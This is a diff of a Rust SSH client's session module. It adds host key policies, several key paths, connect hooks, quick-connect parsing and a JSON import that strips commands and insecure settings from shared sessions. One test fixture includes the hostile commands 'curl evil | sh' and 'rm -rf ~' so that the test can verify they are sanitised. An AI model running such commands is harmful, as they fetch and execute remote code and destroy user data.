@@ -1,9 +1,11 @@
-use serde::{Deserialize, Serialize};
+use serde::{Deserialize, Deserializer, Serialize};
 
 #[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 pub enum AuthType {
     Password,
     Key,
+    /// Server-driven prompts, e.g. one-time codes for two-factor authentication
+    KeyboardInteractive,
 }
 
 impl Default for AuthType {
@@ -12,7 +14,49 @@ impl Default for AuthType {
     }
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+/// How a session treats the server's host key, checked against ~/.ssh/known_hosts
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq)]
+pub enum HostKeyPolicy {
+    /// Ask before trusting the key of a server seen for the first time
+    #[default]
+    Ask,
+    /// Only connect to servers whose key is already known
+    Strict,
+    /// Record the key of a server seen for the first time; refuse changed keys
+    AcceptNew,
+    /// Connect whatever the key, with a warning; for throwaway machines
+    AcceptAny,
+}
+
+impl HostKeyPolicy {
+    pub const ALL: [HostKeyPolicy; 4] = [Self::Ask, Self::Strict, Self::AcceptNew, Self::AcceptAny];
+
+    /// Name stored in the database
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Ask => "Ask",
+            Self::Strict => "Strict",
+            Self::AcceptNew => "AcceptNew",
+            Self::AcceptAny => "AcceptAny",
+        }
+    }
+
+    pub fn from_name(name: &str) -> Self {
+        Self::ALL.into_iter().find(|policy| policy.as_str() == name).unwrap_or_default()
+    }
+
+    pub fn label(self) -> &'static str {
+        match self {
+            Self::Ask => "Ask for new keys",
+            Self::Strict => "Known keys only",
+            Self::AcceptNew => "Accept new keys",
+            Self::AcceptAny => "Accept any key (insecure)",
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
 pub struct Session {
     pub id: String,
     pub name: String,
@@ -20,7 +64,10 @@ pub struct Session {
     pub port: u16,
     pub username: String,
     pub auth_type: AuthType,
-    pub key_path: Option<String>,
+    /// Private keys offered in order until the server accepts one, like repeated
+    /// `IdentityFile` lines. Exports from before this was a list have a single `key_path`.
+    #[serde(alias = "key_path", deserialize_with = "deserialize_key_paths")]
+    pub key_paths: Vec<String>,
     pub folder_id: Option<String>,
     pub auto_connect: bool,
     // Advanced SSH options
@@ -28,6 +75,30 @@ pub struct Session {
     pub agent_forwarding: bool,
     pub port_forward_local: Option<u16>,
     pub port_forward_remote: Option<String>,
+    /// Pinned to the top of the session list
+    pub is_favorite: bool,
+    /// Show the server's pre-auth banner above the terminal
+    pub show_banner: bool,
+    /// Local address to connect from, for hosts with several interfaces
+    pub bind_address: Option<String>,
+    /// Overrides of the global keepalive interval and connect timeout, in seconds
+    pub keepalive_interval: Option<u32>,
+    pub connect_timeout: Option<u32>,
+    /// Position within its section of the session list; equal positions sort by name
+    pub sort_order: i32,
+    /// Local commands run after the global hooks when this session connects and
+    /// disconnects, see `ssh::run_session_hooks`
+    pub on_connect_command: Option<String>,
+    pub on_disconnect_command: Option<String>,
+    /// Typed into the shell once it is ready
+    pub startup_command: Option<String>,
+    /// Regex for the shell prompt; until it shows up in the output (or a timeout passes),
+    /// typing and the startup command are held back
+    pub prompt_pattern: Option<String>,
+    pub host_key_policy: HostKeyPolicy,
+    /// Ask before running commands that match `TerminalSettings::guarded_commands`, for
+    /// servers where a slip is costly
+    pub guard_commands: bool,
 }
 
 impl Default for Session {
@@ -39,15 +110,232 @@ impl Default for Session {
             port: 22,
             username: String::new(),
             auth_type: AuthType::Password,
-            key_path: None,
+            key_paths: Vec::new(),
             folder_id: None,
             auto_connect: false,
             jump_host: None,
             agent_forwarding: false,
             port_forward_local: None,
             port_forward_remote: None,
+            is_favorite: false,
+            show_banner: false,
+            bind_address: None,
+            keepalive_interval: None,
+            connect_timeout: None,
+            sort_order: 0,
+            on_connect_command: None,
+            on_disconnect_command: None,
+            startup_command: None,
+            prompt_pattern: None,
+            host_key_policy: HostKeyPolicy::Ask,
+            guard_commands: false,
+        }
+    }
+}
+
+impl Session {
+    /// An unsaved session for a `[user@]host[:port]` destination, as typed into quick connect.
+    ///
+    /// The user defaults to the local login name. Bracket IPv6 addresses to give a port,
+    /// e.g. `[::1]:2222`. It logs in with the ssh-agent or a standard key, having no key
+    /// files of its own; quick connect asks for a password when that fails.
+    pub fn from_destination(destination: &str) -> Option<Self> {
+        let destination = destination.trim();
+        let (username, address) = match destination.rsplit_once('@') {
+            Some((user, address)) => (user.to_string(), address),
+            None => (std::env::var("USER").ok()?, destination),
+        };
+
+        let (host, port) = if let Some(rest) = address.strip_prefix('[') {
+            let (host, rest) = rest.split_once(']')?;
+            match rest.strip_prefix(':') {
+                Some(port) => (host, port.parse().ok()?),
+                None if rest.is_empty() => (host, 22),
+                None => return None,
+            }
+        } else {
+            match address.split_once(':') {
+                // More than one colon is a bare IPv6 address
+                Some((host, port)) if !port.contains(':') => (host, port.parse().ok()?),
+                _ => (address, 22),
+            }
+        };
+
+        if username.is_empty() || host.is_empty() || host.contains(char::is_whitespace) {
+            return None;
+        }
+
+        Some(Self {
+            name: format!("{}@{}", username, host),
+            host: host.to_string(),
+            port,
+            username,
+            auth_type: AuthType::Key,
+            ..Default::default()
+        })
+    }
+
+    /// This session's target as `user@host:port`, the form `from_destination` reads
+    pub fn destination(&self) -> String {
+        if self.host.contains(':') {
+            format!("{}@[{}]:{}", self.username, self.host, self.port)
+        } else {
+            format!("{}@{}:{}", self.username, self.host, self.port)
+        }
+    }
+
+    /// An unsaved one-off copy of this session aimed at `destination`, keeping its keys,
+    /// jump host and other options
+    pub fn variant(&self, destination: &str) -> Option<Self> {
+        let target = Self::from_destination(destination)?;
+        Some(Self {
+            id: target.id,
+            name: target.name,
+            host: target.host,
+            port: target.port,
+            username: target.username,
+            auto_connect: false,
+            is_favorite: false,
+            ..self.clone()
+        })
+    }
+
+    /// Whether both sessions log in as the same user on the same host
+    pub fn same_target(&self, other: &Session) -> bool {
+        self.username == other.username && self.host.eq_ignore_ascii_case(&other.host)
+    }
+
+    /// A readable description for bug reports and teammates. Key paths and hook commands
+    /// are left out, as they can give away local paths or embed secrets.
+    pub fn summary(&self) -> String {
+        let auth = match self.auth_type {
+            AuthType::Password => "password",
+            AuthType::Key => "key",
+            AuthType::KeyboardInteractive => "keyboard-interactive",
+        };
+        let mut lines = vec![
+            format!("Name: {}", self.name),
+            format!("Host: {}:{}", self.host, self.port),
+            format!("User: {}", self.username),
+            format!("Authentication: {}", auth),
+            format!("Host key: {}", self.host_key_policy.label()),
+        ];
+        if let Some(jump_host) = &self.jump_host {
+            lines.push(format!("Jump host: {}", jump_host));
+        }
+        if self.agent_forwarding {
+            lines.push("Agent forwarding: on".to_string());
+        }
+        if let Some(port) = self.port_forward_local {
+            lines.push(format!("Local forward: {}", port));
+        }
+        if let Some(remote) = &self.port_forward_remote {
+            lines.push(format!("Remote forward: {}", remote));
+        }
+        lines.join("\n")
+    }
+
+    /// A copy to hand to someone else, importable with `sessions_from_json`: what might be
+    /// private to this machine or carry secrets (key paths, commands, folder, list position,
+    /// bind address) is dropped, host key checking and agent forwarding are back to their
+    /// defaults, and it gets a fresh id
+    pub fn shareable(&self) -> Session {
+        Session {
+            id: uuid::Uuid::new_v4().to_string(),
+            key_paths: Vec::new(),
+            folder_id: None,
+            is_favorite: false,
+            sort_order: 0,
+            on_connect_command: None,
+            on_disconnect_command: None,
+            startup_command: None,
+            bind_address: None,
+            ..self.clone()
+        }
+        .with_default_security()
+    }
+}
+
+impl Session {
+    /// Whether the session does anything on its own: connects on startup, runs commands on
+    /// this machine, or types a command into the shell
+    pub fn runs_commands(&self) -> bool {
+        self.auto_connect
+            || self.on_connect_command.is_some()
+            || self.on_disconnect_command.is_some()
+            || self.startup_command.is_some()
+    }
+
+    /// A copy that only does what the user asks for, for sessions from someone else. A
+    /// shared file could otherwise run any local command through the hooks, even on the
+    /// next start without a click thanks to `auto_connect`.
+    pub fn without_commands(self) -> Session {
+        Session {
+            auto_connect: false,
+            on_connect_command: None,
+            on_disconnect_command: None,
+            startup_command: None,
+            ..self
         }
     }
+
+    /// A copy with the default host key checking and no agent forwarding, for sessions from
+    /// someone else: a shared file could otherwise accept any host key or hand the server
+    /// this machine's agent
+    pub fn with_default_security(self) -> Session {
+        Session {
+            host_key_policy: HostKeyPolicy::default(),
+            agent_forwarding: false,
+            ..self
+        }
+    }
+}
+
+fn deserialize_key_paths<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum KeyPaths {
+        One(String),
+        Many(Vec<String>),
+    }
+
+    Ok(match Option::<KeyPaths>::deserialize(deserializer)? {
+        Some(KeyPaths::One(path)) => vec![path],
+        Some(KeyPaths::Many(paths)) => paths,
+        None => Vec::new(),
+    })
+}
+
+/// Parse sessions exported as a JSON array, or a single session object.
+///
+/// Missing fields take their defaults, so a hand-written `{"host": ..., "username": ...}`
+/// is enough; an entry without an id gets a fresh one. Hooks, startup commands and
+/// connecting on startup are dropped, see `Session::without_commands`, and the host key
+/// policy and agent forwarding go back to their defaults.
+pub fn sessions_from_json(json: &[u8]) -> anyhow::Result<Vec<Session>> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum Sessions {
+        Many(Vec<Session>),
+        One(Box<Session>),
+    }
+
+    let sessions = match serde_json::from_slice(json)? {
+        Sessions::Many(sessions) => sessions,
+        Sessions::One(session) => vec![*session],
+    };
+    if let Some(session) = sessions.iter().find(|s| s.host.is_empty() || s.username.is_empty()) {
+        anyhow::bail!("session \"{}\" has no host or username", session.name);
+    }
+    Ok(sessions
+        .into_iter()
+        .map(|mut session| {
+            if session.name.is_empty() {
+                session.name = format!("{}@{}", session.username, session.host);
+            }
+            session.without_commands().with_default_security()
+        })
+        .collect())
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -111,3 +399,107 @@ impl SessionStore {
         self.db.delete_folder(id)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_session_from_destination() {
+        let session = Session::from_destination("deploy@example.com:2222").unwrap();
+        assert_eq!(
+            (session.username.as_str(), session.host.as_str(), session.port),
+            ("deploy", "example.com", 2222)
+        );
+        assert_eq!(session.auth_type, AuthType::Key);
+        assert!(session.key_paths.is_empty());
+
+        let session = Session::from_destination("root@[fe80::1]:22").unwrap();
+        assert_eq!((session.host.as_str(), session.port), ("fe80::1", 22));
+
+        let session = Session::from_destination("root@fe80::1").unwrap();
+        assert_eq!((session.host.as_str(), session.port), ("fe80::1", 22));
+
+        assert!(Session::from_destination("root@").is_none());
+        assert!(Session::from_destination("root@host:port").is_none());
+        assert!(Session::from_destination("root@[::1]x").is_none());
+    }
+
+    #[test]
+    fn test_session_variant() {
+        let session = Session {
+            name: "Web".to_string(),
+            host: "fe80::1".to_string(),
+            username: "deploy".to_string(),
+            auth_type: AuthType::Key,
+            jump_host: Some("bastion".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(session.destination(), "deploy@[fe80::1]:22");
+
+        let variant = session.variant("root@[fe80::1]:2222").unwrap();
+        assert_eq!((variant.username.as_str(), variant.port), ("root", 2222));
+        assert_eq!((variant.auth_type, variant.jump_host), (AuthType::Key, session.jump_host.clone()));
+        assert_ne!(variant.id, session.id);
+        assert!(session.variant("root@").is_none());
+    }
+
+    #[test]
+    fn test_shared_session_drops_private_fields() {
+        let session = Session {
+            name: "Web".to_string(),
+            host: "web.example.com".to_string(),
+            username: "deploy".to_string(),
+            auth_type: AuthType::Key,
+            key_paths: vec!["/home/me/.ssh/work".to_string()],
+            on_connect_command: Some("vpn-up --token s3cret".to_string()),
+            jump_host: Some("bastion".to_string()),
+            host_key_policy: HostKeyPolicy::AcceptAny,
+            agent_forwarding: true,
+            bind_address: Some("10.0.0.5".to_string()),
+            ..Default::default()
+        };
+        let shared = session.shareable();
+        assert_eq!(shared.host_key_policy, HostKeyPolicy::Ask);
+        assert!(!shared.agent_forwarding && shared.bind_address.is_none());
+
+        let summary = session.summary();
+        assert!(summary.contains("Host: web.example.com:22") && summary.contains("Jump host: bastion"));
+        assert!(!summary.contains("/home/me") && !summary.contains("s3cret"));
+
+        let json = serde_json::to_vec(&session.shareable()).unwrap();
+        let imported = sessions_from_json(&json).unwrap();
+        assert_eq!((imported[0].host.as_str(), imported[0].auth_type.clone()), ("web.example.com", AuthType::Key));
+        assert!(imported[0].key_paths.is_empty() && imported[0].on_connect_command.is_none());
+        assert_ne!(imported[0].id, session.id);
+    }
+
+    #[test]
+    fn test_sessions_from_json() {
+        let sessions = sessions_from_json(br#"[
+            {"id": "a", "name": "Web", "host": "web.example.com", "username": "deploy", "port": 2222},
+            {"host": "db.example.com", "username": "root", "auth_type": "Key", "key_path": "~/.ssh/db"},
+            {"host": "ci.example.com", "username": "ci", "key_paths": ["~/.ssh/a", "~/.ssh/b"]}
+        ]"#)
+        .unwrap();
+        assert_eq!(sessions.len(), 3);
+        assert_eq!((sessions[0].id.as_str(), sessions[0].port), ("a", 2222));
+        assert_eq!(sessions[1].name, "root@db.example.com");
+        assert_eq!(sessions[1].auth_type, AuthType::Key);
+        assert_ne!(sessions[1].id, "");
+        assert_eq!(sessions[1].key_paths, ["~/.ssh/db"]);
+        assert_eq!(sessions[2].key_paths, ["~/.ssh/a", "~/.ssh/b"]);
+        assert!(sessions[0].key_paths.is_empty());
+
+        let hostile = sessions_from_json(br#"{"host": "h", "username": "u", "auto_connect": true,
+            "on_connect_command": "curl evil | sh", "startup_command": "rm -rf ~",
+            "host_key_policy": "AcceptAny", "agent_forwarding": true}"#)
+        .unwrap();
+        assert_eq!(hostile.len(), 1);
+        assert!(!hostile[0].runs_commands());
+        assert_eq!(hostile[0].host_key_policy, HostKeyPolicy::Ask);
+        assert!(!hostile[0].agent_forwarding);
+        assert!(sessions_from_json(br#"[{"host": "h"}]"#).is_err());
+        assert!(sessions_from_json(b"not json").is_err());
+    }
+}